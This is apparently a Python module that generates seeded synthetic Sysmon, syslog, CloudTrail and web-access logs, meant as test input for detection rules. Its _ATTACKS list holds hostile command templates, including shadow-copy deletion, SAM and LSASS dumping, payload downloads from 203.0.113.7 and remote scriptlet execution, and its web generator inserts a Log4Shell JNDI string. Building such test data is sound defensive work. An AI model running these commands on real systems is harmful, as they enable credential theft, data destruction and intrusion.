"""Events made from a fixed seed: what each lane asks for, and as many as it asks for."""

from __future__ import annotations

import random
import zlib
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from itertools import islice
from pathlib import Path
from typing import Any

import orjson

SEED = 20_261_124
DISTINCT = 0.3
"""How many command lines occur for the first time."""
_START = datetime(2026, 1, 1, tzinfo=UTC)
_SYSTEM = "C:\\Windows\\System32\\"
_EXPLORER = "C:\\Windows\\explorer.exe"
_AGENT = "C:\\ProgramData\\Agent\\agent.exe"
_IMAGES = (
    *(_SYSTEM + name for name in ("ctfmon.exe", "RuntimeBroker.exe", "taskhostw.exe", "SearchIndexer.exe")),
    *(_SYSTEM + name for name in ("backgroundTaskHost.exe", "smartscreen.exe", "sihost.exe", "mmc.exe")),
    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
    "C:\\Program Files\\Git\\cmd\\git.exe",
    "C:\\Program Files\\Python312\\python.exe",
    "C:\\Program Files\\Java\\jdk-21\\bin\\java.exe",
    _AGENT,
    _EXPLORER,
)
_SHELLS = tuple(_SYSTEM + name for name in ("cmd.exe", "sc.exe", "net.exe", "tasklist.exe", "findstr.exe"))
_MODULES = (
    "kernel32",
    "ntdll",
    "user32",
    "crypt32",
    "ws2_32",
    "clr",
    "rpcrt4",
    "gdi32",
    "shell32",
    "version",
)
_HOSTS = ("update.example.com", "mail.example.net", "cdn.example.org", "login.example.com", "api.example.org")
_ATTACKS = (
    "vssadmin.exe delete shadows /all /quiet & rem {}",
    "powershell.exe -nop -w hidden -ep bypass -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA{}",
    "certutil.exe -urlcache -split -f http://203.0.113.7/{}.exe C:\\Users\\Public\\{}.exe",
    "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\{}.hiv",
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\{}.dmp full",
    'net.exe group "Domain Admins" {} /domain /add',
    "schtasks.exe /create /sc onstart /ru system /tn {} /tr C:\\Users\\Public\\a.exe",
    "bitsadmin.exe /transfer {} /download http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe",
    "wmic.exe /node:10.0.0.7 process call create cmd.exe /c whoami > C:\\Windows\\Temp\\{}.txt",
    "mshta.exe javascript:GetObject('script:http://203.0.113.7/{}.sct')",
)
Fields = dict[str, Any]
Maker = Callable[[random.Random], Iterator[bytes]]


def write(file: Path, make: Maker, count: int) -> Path:
    """Write so many records of a kind, a line each."""
    source = random.Random(SEED)  # noqa: S311 - made-up events, no secret
    with file.open("wb") as lines:
        lines.writelines(islice(make(source), count))
    return file


def _line(event: Fields) -> bytes:
    return orjson.dumps(event) + b"\n"


def _time(number: int) -> str:
    return f"{_START + timedelta(milliseconds=number * 40):%Y-%m-%d %H:%M:%S.%f}"[:-3]


class _Host:
    """What repeats in a host's log: command lines that come again, files, keys, addresses."""

    def __init__(self, source: random.Random) -> None:
        self._source = source
        letters = "abcdefghijklmnopqrstuvwxyz"
        self.words = ["".join(source.choices(letters, k=source.randint(4, 10))) for _ in range(3_000)]
        self.lines: list[tuple[str, str]] = []

    def command(self) -> tuple[str, str]:
        """Return a program and its command line; ``DISTINCT`` of all are new."""
        source = self._source
        if self.lines and source.random() >= DISTINCT:
            return self.lines[int(len(self.lines) * source.random() ** 2)]
        image = source.choice(_IMAGES if source.random() < 0.95 else _SHELLS)  # noqa: PLR2004
        options = " ".join(source.choices(self.words, k=source.randint(1, 9)))
        made = image, f'"{image}" --{options} /id:{source.getrandbits(40):x}'
        self.lines.append(made)
        return made

    def path(self) -> str:
        """Return a file's path of a moderate number of them."""
        source = self._source
        folder = source.choice(("C:\\Windows\\Temp", "C:\\Users\\ada\\Documents", "C:\\ProgramData\\Agent"))
        suffix = source.choice(("tmp", "log", "db"))
        return f"{folder}\\{source.choice(self.words)}{source.randrange(20)}.{suffix}"


def _sysmon(number: int, event: int, category: str, fields: Fields, source: random.Random) -> Fields:
    """Put what every Sysmon event has around its own fields; the log source is named for peers that ask."""
    when = _time(number)
    return {
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Provider_Name": "Microsoft-Windows-Sysmon",
        "EventID": event,
        "EventRecordID": number + 1,
        "Computer": f"ws{number * 7 % 400:03}.corp.example.com",
        "SystemTime": when,
        "UtcTime": when,
        "product": "windows",
        "category": category,
        "ProcessGuid": f"{{6b8f0a1c-{source.getrandbits(16):04x}-6650-0000-{source.getrandbits(40):010x}}}",
        "ProcessId": source.randrange(400, 30_000),
        "User": f"CORP\\user{source.randrange(600)}",
        **fields,
    }


def process(number: int, image: str, line: str, source: random.Random) -> Fields:
    """Return a process creation."""
    parent = source.choice((_EXPLORER, _AGENT))
    fields = {
        "Image": image,
        "CommandLine": line,
        "OriginalFileName": image.rpartition("\\")[2],
        "Company": "Example Corporation",
        "Description": "Example",
        "Product": "Example",
        "CurrentDirectory": "C:\\Windows\\System32\\",
        "IntegrityLevel": source.choice(("Medium", "High", "System")),
        "ParentImage": parent,
        "ParentCommandLine": f'"{parent}"',
        "Hashes": f"SHA256={zlib.crc32(image.encode()):064x}",
        "LogonId": f"0x{source.randrange(4096):x}",
    }
    return _sysmon(number, 1, "process_creation", fields, source)


def sysmon(source: random.Random) -> Iterator[bytes]:
    """Make a workstation fleet's Sysmon log: processes, modules, connections, files, registry, DNS."""
    host, number = _Host(source), 0
    while True:
        chance = source.random()
        image, line = host.command() if chance < 0.4 else (source.choice(_IMAGES), "")  # noqa: PLR2004
        if chance < 0.4:  # noqa: PLR2004
            event = process(number, image, line, source)
        elif chance < 0.55:  # noqa: PLR2004
            module = f"{_SYSTEM}{source.choice(_MODULES)}.dll"
            fields = {"Image": image, "ImageLoaded": module, "Signed": "true", "SignatureStatus": "Valid"}
            event = _sysmon(number, 7, "image_load", fields, source)
        elif chance < 0.7:  # noqa: PLR2004
            fields = {
                "Image": image, "Protocol": "tcp", "Initiated": "true", "SourceIp": "10.1.2.3",
                "DestinationIp": f"198.51.100.{source.randrange(256)}", "DestinationPort": 443,
                "DestinationHostname": source.choice(_HOSTS),
            }  # fmt: skip
            event = _sysmon(number, 3, "network_connection", fields, source)
        elif chance < 0.82:  # noqa: PLR2004
            event = _sysmon(number, 11, "file_event", {"Image": image, "TargetFilename": host.path()}, source)
        elif chance < 0.94:  # noqa: PLR2004
            key = f"HKLM\\SOFTWARE\\Example\\{source.choice(host.words)}\\{source.choice(host.words)}"
            fields = {
                "EventType": "SetValue",
                "Image": image,
                "TargetObject": key,
                "Details": "DWORD (0x00000001)",
            }
            event = _sysmon(number, 13, "registry_set", fields, source)
        else:
            name = f"{source.choice(host.words)}.{source.choice(_HOSTS)}"
            event = _sysmon(number, 22, "dns_query", {"Image": image, "QueryName": name}, source)
        yield _line(event)
        number += 1


def attacks(source: random.Random) -> Iterator[bytes]:
    """Make process creations of which nearly each is matched by some rules."""
    number = 0
    while True:
        mark = f"{source.getrandbits(40):x}"
        line = source.choice(_ATTACKS).replace("{}", mark)
        yield _line(process(number, _SYSTEM + line.split()[0], line, source))
        number += 1


def quiet(source: random.Random) -> Iterator[bytes]:
    """Make process creations that no rule speaks of, each command line its own."""
    host, number = _Host(source), 0
    while True:
        options = " ".join(source.choices(host.words, k=6))
        image = f"D:\\Works\\{source.choice(host.words)}.bin"
        event = process(number, image, f"{image} {options} {number}", source)
        yield _line(event | {"ParentImage": "D:\\Works\\main.bin", "ParentCommandLine": "main.bin"})
        number += 1


def messages(source: random.Random) -> Iterator[bytes]:
    """Make lines of a Linux server's syslog; a few say what keyword rules look for."""
    host, number = _Host(source), 0
    while True:
        stamp = f"{_START + timedelta(seconds=number // 10):%b %e %H:%M:%S} web{number % 30:02}"
        user, word, process = (
            f"user{source.randrange(400)}",
            source.choice(host.words),
            source.randrange(9999),
        )
        chance = source.random()
        if chance < 0.4:  # noqa: PLR2004
            address, port = f"203.0.113.{source.randrange(256)}", source.randrange(1024, 65536)
            text = f"sshd[{process}]: Accepted publickey for {user} from {address} port {port} ssh2"
        elif chance < 0.7:  # noqa: PLR2004
            text = f"CRON[{process}]: ({user}) CMD (/usr/local/bin/{word} --{word} {number})"
        elif chance < 0.999:  # noqa: PLR2004
            text = f"systemd[1]: Started {word} service for {user} ({source.getrandbits(32):x})."
        else:
            text = f"kernel: {word}: attempt to execute code on stack by main {source.getrandbits(20):x}"
        yield f"{stamp} {text}\n".encode()
        number += 1


def cloud(source: random.Random) -> Iterator[bytes]:
    """Make records of an AWS account's CloudTrail."""
    number = 0
    calls = (("ec2", "DescribeInstances"), ("s3", "GetObject"), ("sts", "AssumeRole"), ("iam", "ListUsers"))
    rare = (("cloudtrail", "StopLogging"), ("iam", "CreateAccessKey"), ("guardduty", "DeleteDetector"))
    while True:
        service, call = source.choice(calls if source.random() < 0.99 else rare)  # noqa: PLR2004
        user = f"user{source.randrange(300)}"
        yield _line(
            {
                "eventVersion": "1.08",
                "eventID": f"{source.getrandbits(32):08x}-0000-4000-8000-{number:012x}",
                "eventTime": f"{_START + timedelta(seconds=number):%Y-%m-%dT%H:%M:%SZ}",
                "eventSource": f"{service}.amazonaws.com",
                "eventName": call,
                "awsRegion": "eu-central-1",
                "sourceIPAddress": f"198.51.100.{source.randrange(256)}",
                "userAgent": "aws-cli/2.15",
                "userIdentity": {"type": "IAMUser", "userName": user, "accountId": "123456789012"},
                "requestParameters": {"bucketName": f"data{source.randrange(50)}", "key": f"k{number}"},
                "eventType": "AwsApiCall",
                "recipientAccountId": "123456789012",
            }
        )
        number += 1


def web(source: random.Random) -> Iterator[bytes]:
    """Make lines of a web server's access log."""
    host, number = _Host(source), 0
    while True:
        stamp = f"{_START + timedelta(seconds=number // 20):%d/%b/%Y:%H:%M:%S +0000}"
        path = f"/{source.choice(host.words)}/{source.choice(host.words)}?q={source.getrandbits(20):x}"
        if source.random() < 0.002:  # noqa: PLR2004
            path = f"/?x=${{jndi:ldap://203.0.113.9/{number}}}"
        yield (
            f'198.51.100.{source.randrange(256)} - - [{stamp}] "GET {path} HTTP/1.1" 200 '
            f'{source.randrange(90_000)} "-" "Mozilla/5.0 (X11; Linux x86_64)"\n'
        ).encode()
        number += 1
